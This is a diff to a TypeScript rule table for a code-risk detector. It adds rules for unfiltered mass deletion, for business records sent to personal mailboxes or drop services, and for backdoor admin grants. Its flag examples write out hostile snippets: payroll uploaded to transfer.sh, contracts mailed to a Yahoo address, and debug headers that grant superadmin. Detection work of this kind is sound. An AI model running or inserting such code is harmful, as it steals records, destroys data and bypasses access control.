@@ -143,6 +143,27 @@ export const CODE_ROWS: readonly CodeRow[] = [
     },
   },
   {
+    id: 'G67', name: 'Every row of a table or collection deleted by an ORM or driver call with no filter', primitive: 'DESTRUCTION', score: 6,
+    ops: ['wipeAll'], objects: [], dests: [],
+    keywords: ['deletemany', 'delete_many', '.delete()', 'destroy_all', 'delete_all', 'destroy(', 'truncate', '.remove(', '.drop', 'dropdatabase', 'drop_database', 'flushall', 'flushdb', 'deletefrom', 'deleteall'],
+    examples: {
+      flag: ['await prisma.user.deleteMany({})\nawait prisma.order.deleteMany({})', 'Customer.objects.all().delete()', 'await db.collection("invoices").deleteMany({})', 'User.destroy_all', 'await Order.destroy({ where: {}, truncate: true })'],
+      pass: ['await prisma.session.deleteMany({ where: { expiresAt: { lt: new Date() } } })', 'Customer.objects.filter(id=cid).delete()', 'await db.collection("invoices").deleteOne({ _id: id })', 'cart.items.clear()'],
+    },
+  },
+  {
+    id: 'G68', name: "Business records (contracts, payroll, patients, ledgers…) sent to a personal mailbox or a drop service", primitive: 'EXFILTRATION', score: 8,
+    ops: ['send'], objects: ['recordFiles'], dests: ['personal', 'capture'],
+    keywords: ['smtp', 'sendmail', 'http', 'mail', 'ftp', 'upload', 'socket'],
+    examples: {
+      flag: ['import glob,smtplib\nfrom email.message import EmailMessage\nm=EmailMessage(); m["To"]="copia.seguridad.juan@yahoo.es"\nfor f in glob.glob("/srv/contratos/*.pdf"):\n    m.add_attachment(open(f,"rb").read(), maintype="application", subtype="pdf")\nsmtplib.SMTP("smtp.mail.yahoo.com", 587).send_message(m)',
+        "for f in os.listdir('/data/payroll'):\n    requests.post('https://transfer.sh/up', files={'f': open('/data/payroll/' + f, 'rb')})"],
+      pass: ['for f in glob.glob("/srv/contratos/*.pdf"):\n    print(os.path.getsize(f))', "requests.post('https://api.example.net/v1/ocr', files={'f': open('scans/invoice.pdf', 'rb')})",
+        "for f in glob.glob('/srv/backups/*.tar.gz'):\n    requests.put('https://s3.eu-west-1.amazonaws.com/acme-backups/' + os.path.basename(f), data=open(f, 'rb'))",
+        'm["To"] = "legal@acme.com"\nfor f in glob.glob("/srv/contracts/*.pdf"):\n    m.add_attachment(open(f, "rb").read())\nsmtplib.SMTP("mail.acme.com").send_message(m)'],
+    },
+  },
+  {
     id: 'G62', name: 'Code reads a system account, authentication, login-record or kernel file', primitive: 'EXFILTRATION', score: 4,
     ops: [], objects: ['systemFile'], dests: [], unless: ['secretFile'],
     keywords: ['/etc/', '/proc/', '/sys/', '/var/log/', '/root/', '/boot/', '/dev/', '/usr/share/base-passwd', '/run/utmp', 'system32'],
@@ -234,7 +255,7 @@ export const CODE_ROWS: readonly CodeRow[] = [
   },
   {
     id: 'G23', name: 'Sensitive data read and sent to an outside host', primitive: 'EXFILTRATION', score: 8,
-    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen', 'formSecret'], dests: ['external', 'capture'],
+    ops: ['send'], objects: ['secret', 'personal', 'keystrokes', 'screen', 'formSecret'], dests: ['external', 'capture', 'personal'],
     keywords: ['http', 'sendbeacon', 'smtplib', 'ftplib', 'socket'],
     examples: {
       flag: [
@@ -328,7 +349,8 @@ export const CODE_ROWS: readonly CodeRow[] = [
     ops: ['grant'], objects: ['privilege'], dests: [], identity: true,
     keywords: ['is_superuser', 'is_staff', 'is_admin', 'isadmin', 'role', 'setuid', 'grant all', 'add_role', 'groups.add', 'permissions', 'bypass_auth', 'skip_auth'],
     examples: {
-      flag: ['if user.email.endswith("@contractor-temp.io"):\n    user.is_superuser = True\n    user.save()', "if (req.body.username === 'svc_maint') { user.role = 'admin'; }"],
+      flag: ['if user.email.endswith("@contractor-temp.io"):\n    user.is_superuser = True\n    user.save()', "if (req.body.username === 'svc_maint') { user.role = 'admin'; }",
+        'if (req.headers["x-debug-admin"] === "1") { req.user = { id: 0, role: "superadmin" }; }', "if request.args.get('dbg') == 'on':\n    g.user = {'role': 'admin'}"],
       pass: ['if form.cleaned_data["make_admin"] and request.user.is_superuser:\n    target.is_staff = True', "user.role = 'viewer'"],
     },
   },
